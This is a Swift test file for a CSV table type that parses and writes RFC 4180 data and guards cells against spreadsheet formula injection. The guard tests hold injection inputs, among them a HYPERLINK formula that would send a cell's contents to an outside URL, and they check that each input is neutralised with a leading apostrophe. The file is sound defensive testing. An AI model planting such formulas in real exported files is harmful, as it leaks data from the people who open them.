import Testing

@testable import Tasks

/// RFC 4180, and the formulas of spreadsheets.
@Suite struct CSVTableTests {
    @Test(arguments: [
        ("text,done\r\n\"never closed,no\r\n", 2), ("text,done\r\na\"b,no\r\n", 2), ("text,done\r\na\"b\",no\r\n", 2),
        ("text,done\r\n\"a\"b,no\r\n", 2),
        ("text,done\r\nx,no\r\n\"a\nb\" ,no\r\n", 4), ("\"", 1), ("text,done\na,no\n\"\"\"", 3),
    ]) func `a quotation mark too many or too few is refused, with its line`(text: String, line: Int) {
        #expect(throws: CSVTable.Failure(line: line)) { try CSVTable(text, separator: ",") }
    }

    @Test(arguments: [
        ("a,b\r\nc,d\r\n", [["a", "b"], ["c", "d"]]), ("a,b\nc,d", [["a", "b"], ["c", "d"]]),
        ("\"a,b\",\"c\r\nd\"", [["a,b", "c\r\nd"]]), ("\"say \"\"hi\"\"\",", [["say \"hi\"", ""]]),
        ("\"\"\r\n\r\n\r\n,\r\n", [[""], ["", ""]]), ("", []), ("\"\"\"\"", [["\""]]),
        ("a,\"\u{301}b\"\r\nc,d", [["a", "\u{301}b"], ["c", "d"]]),
    ]) func `cells are read as the RFC says`(text: String, rows: [[String]]) throws {
        #expect(try CSVTable(text, separator: ",").rows.map(\.cells) == rows)
    }

    @Test func `a row has the number of the line that it begins on`() throws {
        #expect(try CSVTable("a\r\n\"b\r\nb\"\r\n\r\nc\rd\n", separator: ",").rows.map(\.line) == [1, 2, 5, 6])
    }

    @Test func `no more rows are read than asked for`() throws {
        #expect(try CSVTable("a\nb\nc\"d", separator: ",", upTo: 2).rows.map(\.cells) == [["a"], ["b"]])
    }

    @Test(arguments: [
        "=HYPERLINK(\"https://example.com/?\"&A1)", "+1", "-5 degrees", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋1",
        "－1", "＠a", "'=1", "''+1", "=\u{301}1",
    ]) func `nothing that a spreadsheet would calculate is at the start of a cell, and nothing is lost by that`(
        text: String
    ) {
        let guarded = CSVTable.guarded(text)
        #expect(guarded == "'\(text)")
        #expect(CSVTable.unguarded(guarded).unicodeScalars.elementsEqual(text.unicodeScalars))
    }

    @Test(arguments: ["Milk", "'tis", "a=b", "", "'", "''", "1+1"]) func `any other text stays as it is`(text: String) {
        #expect(CSVTable.guarded(text) == text)
        #expect(CSVTable.unguarded(text) == text)
    }

    @Test func `lines end in CR LF, and each cell is in quotation marks`() {
        let tasks = [ListedTask(text: "say \"hi\""), ListedTask(text: "=1", isDone: true)]
        #expect(CSVTable.written(tasks) == "text,done\r\n\"say \"\"hi\"\"\",no\r\n\"'=1\",yes\r\n")
    }
}
